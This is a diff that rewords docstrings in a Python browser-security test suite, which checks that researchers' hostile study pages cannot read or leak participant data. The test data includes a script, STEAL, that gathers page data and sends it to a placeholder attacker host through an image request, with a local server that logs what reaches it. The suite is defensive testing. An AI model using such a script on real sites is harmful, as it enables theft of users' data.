@@ -1,5 +1,5 @@
-"""A researcher's page cannot reach what the page around it keeps, whatever it tries, nor whom it is not
-meant for."""
+"""Hostile pages: a researcher's page cannot reach the data of the page around it, or of other
+participants."""
 
 import json
 from collections.abc import Iterator
@@ -16,7 +16,7 @@ from tests.browser.pages import content, expect_heading, settle, submit, submit_
 from tests.browser.site import FrontDoor, serve
 from tests.support.study_world import PAGES, StudyWorld
 
-# What a script would do that somebody got to run: read, and tell.
+# The actions of an injected script: read data, and send it away.
 STEAL = """
 const loot = [];
 const take = (name, get) => {
@@ -39,13 +39,13 @@ new Image().src = "ATTACKER/loot?" + encodeURIComponent(loot.join("\\n"));
 
 @dataclass
 class Attacker:
-    """Somebody's server elsewhere; `asked` are the paths that it was asked for."""
+    """Another party's server; `asked` are the paths that were requested from it."""
 
     url: str = ""
     asked: list[str] = field(default_factory=list)
 
     def make_handler(self, *arguments: Any) -> BaseHTTPRequestHandler:
-        """Notes each request; every page that it serves but /plain runs STEAL."""
+        """Note each request; every page that it serves except /plain runs STEAL."""
         attacker = self
 
         class Handler(BaseHTTPRequestHandler):
@@ -62,14 +62,14 @@ class Attacker:
             do_POST = do_GET  # noqa: N815
 
             def log_message(self, *_: Any) -> None:
-                """Keeps the tests' output readable."""
+                """Keep the tests' output readable."""
 
         return Handler(*arguments)
 
 
 @pytest.fixture
 def attacker() -> Iterator[Attacker]:
-    """A server of an attacker's."""
+    """Yield an attacker's server."""
     attacker = Attacker()
     with serve(attacker.make_handler) as port:
         attacker.url = f"http://127.0.0.1:{port}"
@@ -78,21 +78,21 @@ def attacker() -> Iterator[Attacker]:
 
 @pytest.fixture(params=["sandbox", "own host"])
 def config(request: pytest.FixtureRequest, door: FrontDoor) -> dict[str, Any]:
-    """The two ways to show researchers' pages: in a sandbox of this origin, and at a host of their own."""
+    """Return a way to show researchers' pages: in a sandbox of this origin, or on a separate host."""
     return {"nextUrl": door.url, "host": request.param}
 
 
 @pytest.fixture
 def site(site: str, config: dict[str, Any]) -> str:
-    """The study page's address; in the second way its pages come from another origin, which this machine
-    has too."""
+    """Yield the study page's address; in the second way its pages come from another origin, also on this
+    machine."""
     if config["host"] == "own host":
         config["pagesUrl"] = site.replace("localhost", "127.0.0.1") + "/"
     return site
 
 
 def open_hostile(world: StudyWorld, visitor: Visitor, attacker: Attacker, html: str) -> Page:
-    """Open a study whose first page holds this, for a participant with the id `victim`."""
+    """Open a study whose first page has this content, for a participant with the id `victim`."""
     inline = STEAL.replace("ATTACKER", attacker.url)
     html = html.replace("ATTACKER", attacker.url).replace("STEAL", inline.replace('"', "&quot;"))
     html = html.replace("SCRIPT", inline)
@@ -104,7 +104,7 @@ def open_hostile(world: StudyWorld, visitor: Visitor, attacker: Attacker, html: 
 
 
 def check_unharmed(page: Page, door: FrontDoor, attacker: Attacker) -> None:
-    """The study is still there and goes on; nothing that only its page knows came to the attacker."""
+    """Check that the study is intact and continues, and that no data of its page reached the attacker."""
     told = "\n".join(attacker.asked)
     assert "victim" not in told
     assert "secret-pid" not in told
@@ -139,7 +139,7 @@ def check_unharmed(page: Page, door: FrontDoor, attacker: Attacker) -> None:
 def test_no_script_of_the_page_runs(
     world: StudyWorld, door: FrontDoor, visitor: Visitor, attacker: Attacker, html: str
 ) -> None:
-    """Given a page with code in it, in whatever form, then none of it runs and the study goes on."""
+    """Given a page with code in any form, none of it runs and the study continues."""
     page = open_hostile(world, visitor, attacker, html)
 
     assert [path for path in attacker.asked if path.startswith("/loot")] == []
@@ -149,8 +149,7 @@ def test_no_script_of_the_page_runs(
 def test_an_embedded_page_reads_nothing_and_leads_nowhere(
     world: StudyWorld, door: FrontDoor, visitor: Visitor, attacker: Attacker
 ) -> None:
-    """Given an embedded page from elsewhere, which may run scripts, then it learns the site's name at
-    most."""
+    """Given an embedded page from elsewhere, which may run scripts, it learns at most the site's name."""
     frame = '<iframe src="ATTACKER/embedded" referrerpolicy="unsafe-url" title="film" width="200"></iframe>'
 
     page = open_hostile(world, visitor, attacker, frame)
@@ -165,8 +164,8 @@ def test_an_embedded_page_reads_nothing_and_leads_nowhere(
 def test_links_open_elsewhere_and_tell_nothing(
     world: StudyWorld, door: FrontDoor, visitor: Visitor, attacker: Attacker
 ) -> None:
-    """Given links and buttons that lead away, when they are clicked, then the study stays and no address
-    is told."""
+    """Given links and buttons that lead away, the study stays and no address is disclosed when they are
+    clicked."""
     page = open_hostile(
         world,
         visitor,
@@ -190,8 +189,7 @@ def test_links_open_elsewhere_and_tell_nothing(
 def test_a_form_cannot_be_sent_elsewhere(
     world: StudyWorld, door: FrontDoor, visitor: Visitor, attacker: Attacker
 ) -> None:
-    """Given a button with an address of its own, when it is clicked, then the answers go to the study
-    alone."""
+    """Given a button with its own address, the answers go only to the study when it is clicked."""
     page = open_hostile(
         world,
         visitor,
@@ -211,8 +209,7 @@ def test_a_form_cannot_be_sent_elsewhere(
 def test_a_frame_that_was_led_away_is_brought_back(
     world: StudyWorld, door: FrontDoor, visitor: Visitor, attacker: Attacker
 ) -> None:
-    """Given a frame in which another document was loaded, then the study's page is there again, what was
-    typed too."""
+    """Given a frame in which another document was loaded, the study's page returns, with what was typed."""
     world.publish({**PAGES, "consent.html": '<h1>Consent</h1><input name="a" aria-label="a">'})
     page = visitor.open(userId="victim")
     content(page).get_by_label("a").fill("typed")
@@ -226,10 +223,10 @@ def test_a_frame_that_was_led_away_is_brought_back(
     assert "victim" not in "\n".join(attacker.asked)
 
 
-def test_the_page_itself_says_nothing_of_other_studies(
+def test_the_page_reveals_nothing_about_other_studies(
     world: StudyWorld, visitor: Visitor, config: dict[str, Any]
 ) -> None:
-    """Given a browser that has taken part in another study, then the sandbox's storage is not the page's."""
+    """Given a browser that has taken part in another study, the sandbox's storage is not the page's."""
     world.publish(id="other")
     page = visitor.open("other")
     expect_heading(page, "Consent")
@@ -250,7 +247,7 @@ def test_the_page_itself_says_nothing_of_other_studies(
 def test_a_page_sees_its_own_id_only_where_it_shows_it(
     world: StudyWorld, visitor: Visitor, attacker: Attacker
 ) -> None:
-    """Given a page with the place for a code, then the participant reads their id there and can copy it."""
+    """Given a page with the element for a code, the participant reads their id there and can copy it."""
     world.publish({**PAGES, "consent.html": '<h1>Code</h1><span class="MTURK_CODE">x</span>'})
     visitor.context.grant_permissions(["clipboard-read", "clipboard-write"])
     page = visitor.open(userId="u1")
